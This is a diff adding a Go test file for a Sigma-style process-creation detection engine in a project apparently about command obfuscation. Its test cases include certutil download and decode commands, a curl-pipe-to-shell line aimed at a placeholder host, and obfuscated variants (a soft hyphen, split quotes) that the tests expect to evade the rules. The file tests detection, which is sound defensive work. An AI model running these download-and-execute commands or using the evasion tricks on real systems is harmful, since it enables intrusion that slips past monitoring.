@@ -0,0 +1,201 @@
+package detect
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"cmdFuscator/models"
+)
+
+func mustRule(t *testing.T, detection string) *Rule {
+	t.Helper()
+	r, err := ParseRule([]byte("title: test\nlogsource:\n  category: process_creation\ndetection:\n" + detection))
+	if err != nil {
+		t.Fatalf("ParseRule: %v", err)
+	}
+	return r
+}
+
+func TestRuleMatch(t *testing.T) {
+	tests := []struct {
+		name      string
+		detection string
+		event     Event
+		want      bool
+	}{
+		{"equals ignores case", "  sel:\n    Image: 'C:\\Windows\\System32\\CERTUTIL.EXE'\n  condition: sel",
+			Event{"Image": `C:\Windows\System32\certutil.exe`}, true},
+		{"cased", "  sel:\n    Image|cased|endswith: 'CERTUTIL.EXE'\n  condition: sel",
+			Event{"Image": `C:\Windows\System32\certutil.exe`}, false},
+		{"endswith keeps a leading backslash", "  sel:\n    Image|endswith: '\\certutil.exe'\n  condition: sel",
+			Event{"Image": `C:\x\certutil.exe`}, true},
+		{"endswith anchors", "  sel:\n    Image|endswith: '\\certutil.exe'\n  condition: sel",
+			Event{"Image": `C:\x\certutil.exe.bak`}, false},
+		{"startswith", "  sel:\n    CommandLine|startswith: 'certutil '\n  condition: sel",
+			Event{"CommandLine": "certutil -f"}, true},
+		{"wildcards", "  sel:\n    CommandLine: 'cert*-url?ache*'\n  condition: sel",
+			Event{"CommandLine": "certutil.exe -urlcache -f"}, true},
+		{"escaped wildcard", "  sel:\n    CommandLine|contains: 'a\\*b'\n  condition: sel",
+			Event{"CommandLine": "xaab"}, false},
+		{"list is any", "  sel:\n    CommandLine|contains: [' -x ', ' -f']\n  condition: sel",
+			Event{"CommandLine": "certutil -f"}, true},
+		{"all", "  sel:\n    CommandLine|contains|all: ['-urlcache', '-f']\n  condition: sel",
+			Event{"CommandLine": "certutil -urlcache https://x"}, false},
+		{"fields are and", "  sel:\n    Image|endswith: 'certutil.exe'\n    CommandLine|contains: '-decode'\n  condition: sel",
+			Event{"Image": "certutil.exe", "CommandLine": "certutil -encode"}, false},
+		{"list of maps is or", "  sel:\n    - Image|endswith: 'x.exe'\n    - OriginalFileName: 'CertUtil.exe'\n  condition: sel",
+			Event{"OriginalFileName": "certutil.exe"}, true},
+		{"missing field", "  sel:\n    ParentImage|endswith: 'cmd.exe'\n  condition: sel",
+			Event{"CommandLine": "x"}, false},
+		{"null", "  sel:\n    ParentImage: null\n  condition: sel",
+			Event{"CommandLine": "x"}, true},
+		{"keywords", "  keywords:\n    - 'urlcache'\n  condition: keywords",
+			Event{"CommandLine": "certutil -URLCACHE"}, true},
+		{"windash", "  sel:\n    CommandLine|contains|windash: ' -urlcache '\n  condition: sel",
+			Event{"CommandLine": "certutil \u2013urlcache -f"}, true},
+		{"no windash", "  sel:\n    CommandLine|contains: ' -urlcache '\n  condition: sel",
+			Event{"CommandLine": "certutil /urlcache -f"}, false},
+		{"re is cased", "  sel:\n    CommandLine|re: 'cert[a-z]+ -f'\n  condition: sel",
+			Event{"CommandLine": "CERTUTIL -f"}, false},
+		{"re i", "  sel:\n    CommandLine|re|i: 'cert[a-z]+ -f'\n  condition: sel",
+			Event{"CommandLine": "CERTUTIL -f"}, true},
+		{"field names ignore case", "  sel:\n    commandline|contains: '-f'\n  condition: sel",
+			Event{"CommandLine": "certutil -f"}, true},
+		{"not", "  a:\n    CommandLine|contains: '-f'\n  b:\n    CommandLine|contains: '-split'\n  condition: a and not b",
+			Event{"CommandLine": "certutil -f -split"}, false},
+		{"precedence", "  a:\n    CommandLine|contains: 'x'\n  b:\n    CommandLine|contains: 'y'\n  c:\n    CommandLine|contains: 'z'\n  condition: a or b and c",
+			Event{"CommandLine": "x"}, true},
+		{"parentheses", "  a:\n    CommandLine|contains: 'x'\n  b:\n    CommandLine|contains: 'y'\n  c:\n    CommandLine|contains: 'z'\n  condition: (a or b) and c",
+			Event{"CommandLine": "x"}, false},
+		{"1 of pattern", "  sel_a:\n    CommandLine|contains: 'x'\n  sel_b:\n    CommandLine|contains: 'y'\n  condition: 1 of sel_*",
+			Event{"CommandLine": "y"}, true},
+		{"all of them", "  sel_a:\n    CommandLine|contains: 'x'\n  sel_b:\n    CommandLine|contains: 'y'\n  condition: all of them",
+			Event{"CommandLine": "y"}, false},
+		{"condition list", "  a:\n    CommandLine|contains: 'x'\n  b:\n    CommandLine|contains: 'y'\n  condition:\n    - a\n    - b",
+			Event{"CommandLine": "y"}, true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := mustRule(t, tt.detection).Match(tt.event); got != tt.want {
+				t.Errorf("Match(%v) = %v, want %v", tt.event, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestParseRuleErrors(t *testing.T) {
+	tests := []struct {
+		name, detection, want string
+	}{
+		{"no condition", "  sel:\n    Image: x\n", "no condition"},
+		{"unknown selection", "  sel:\n    Image: x\n  condition: other", `no selection named "other"`},
+		{"unmatched pattern", "  sel:\n    Image: x\n  condition: 1 of filter_*", `no selection matches "filter_*"`},
+		{"aggregation", "  sel:\n    Image: x\n  condition: sel | count() > 5", "aggregations"},
+		{"unsupported modifier", "  sel:\n    CommandLine|base64: x\n  condition: sel", `unsupported modifier "base64"`},
+		{"bad regexp", "  sel:\n    CommandLine|re: '('\n  condition: sel", "missing closing )"},
+		{"trailing token", "  sel:\n    Image: x\n  condition: sel sel", `unexpected "sel"`},
+		{"missing paren", "  sel:\n    Image: x\n  condition: (sel", "missing )"},
+		{"dangling and", "  sel:\n    Image: x\n  condition: sel and", "unexpected end"},
+		{"flag without re", "  sel:\n    CommandLine|i: x\n  condition: sel", "only follows re"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := ParseRule([]byte("logsource:\n  category: process_creation\ndetection:\n" + tt.detection))
+			if err == nil || !strings.Contains(err.Error(), tt.want) {
+				t.Errorf("err = %v, want one containing %q", err, tt.want)
+			}
+		})
+	}
+	if _, err := ParseRule([]byte("logsource:\n  category: dns_query\ndetection:\n  condition: x")); !errors.Is(err, ErrNotProcessCreation) {
+		t.Errorf("dns_query rule: err = %v, want ErrNotProcessCreation", err)
+	}
+}
+
+func TestLoadRules(t *testing.T) {
+	rules, problems, err := LoadRules(os.DirFS("testdata/rules"))
+	if err != nil {
+		t.Fatalf("LoadRules: %v", err)
+	}
+	var files []string
+	for _, r := range rules {
+		files = append(files, r.File)
+	}
+	want := []string{"bash_curl_pipe.yaml", "windows/certutil_decode.yml", "windows/certutil_download.yml"}
+	if !slices.Equal(files, want) {
+		t.Errorf("loaded %v, want %v", files, want)
+	}
+	if len(problems) != 1 || !strings.Contains(problems[0].Error(), "unsupported.yml") {
+		t.Errorf("problems = %v, want one for unsupported.yml", problems)
+	}
+}
+
+func TestLoadPath(t *testing.T) {
+	rules, _, err := LoadPath(filepath.Join("testdata", "rules", "windows"))
+	if err != nil || len(rules) != 2 {
+		t.Fatalf("LoadPath(dir) = %d rules, %v", len(rules), err)
+	}
+	if want := filepath.Join("testdata", "rules", "windows", "certutil_decode.yml"); rules[0].File != want {
+		t.Errorf("File = %q, want %q", rules[0].File, want)
+	}
+	if _, _, err := LoadPath(filepath.Join("testdata", "rules", "dns_query.yml")); !errors.Is(err, ErrNotProcessCreation) {
+		t.Errorf("LoadPath(dns rule): err = %v, want ErrNotProcessCreation", err)
+	}
+
+	// Several rules in one file, one of them about another log source.
+	multi := filepath.Join(t.TempDir(), "multi.yml")
+	body := "title: a\nlogsource: {category: process_creation}\ndetection: {sel: {Image: x}, condition: sel}\n---\n" +
+		"title: b\nlogsource: {category: file_event}\ndetection: {sel: {TargetFilename: x}, condition: sel}\n---\n" +
+		"title: c\nlogsource: {category: process_creation}\ndetection: {sel: {Image: y}, condition: sel}\n"
+	if err := os.WriteFile(multi, []byte(body), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	rules, _, err = LoadPath(multi)
+	if err != nil || len(rules) != 2 || rules[0].Title != "a" || rules[1].Title != "c" {
+		t.Errorf("LoadPath(multi) = %v, %v; want rules a and c", rules, err)
+	}
+}
+
+func TestEventsAgainstRules(t *testing.T) {
+	rules, _, err := LoadRules(os.DirFS("testdata/rules"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	certutil := &models.ProfileFile{Name: "certutil", Profiles: []models.Profile{{Platform: "windows"}}}
+	bash := &models.ProfileFile{Name: "bash", Profiles: []models.Profile{{Platform: "linux"}}}
+	tests := []struct {
+		pf   *models.ProfileFile
+		cmd  string
+		want []string
+	}{
+		{certutil, "certutil -urlcache -f https://x/a a", []string{"Certutil Download From URL"}},
+		{certutil, "cErTuTiL /urlcache -f https://x/a a", []string{"Certutil Download From URL"}},
+		{certutil, "certutil -url\u00adcache -f https://x/a a", nil},
+		{certutil, "certutil -decode in.b64 out.exe", []string{"Certutil Decode"}},
+		{bash, `bash -c "curl https://x | sh"`, []string{"Download Piped Into A Shell"}},
+		{bash, `bash -c "cu''rl https://x | sh"`, nil},
+	}
+	for _, tt := range tests {
+		var got []string
+		for _, r := range Hits(rules, EventFor(tt.pf, tt.cmd)) {
+			got = append(got, r.Name())
+		}
+		if !slices.Equal(got, tt.want) {
+			t.Errorf("%s: hits = %q, want %q", tt.cmd, got, tt.want)
+		}
+	}
+}
+
+func TestEventFor(t *testing.T) {
+	win := EventFor(&models.ProfileFile{Name: "certutil", Profiles: []models.Profile{{Platform: "windows"}}}, "certutil -f")
+	if win["Image"] != `C:\Windows\System32\certutil.exe` || win["OriginalFileName"] != "certutil.exe" || win["CommandLine"] != "certutil -f" {
+		t.Errorf("windows event = %v", win)
+	}
+	linux := EventFor(&models.ProfileFile{Name: "bash", Profiles: []models.Profile{{Platform: "linux"}}}, "bash -c id")
+	if _, ok := linux["OriginalFileName"]; ok || linux["Image"] != "/usr/bin/bash" {
+		t.Errorf("linux event = %v", linux)
+	}
+}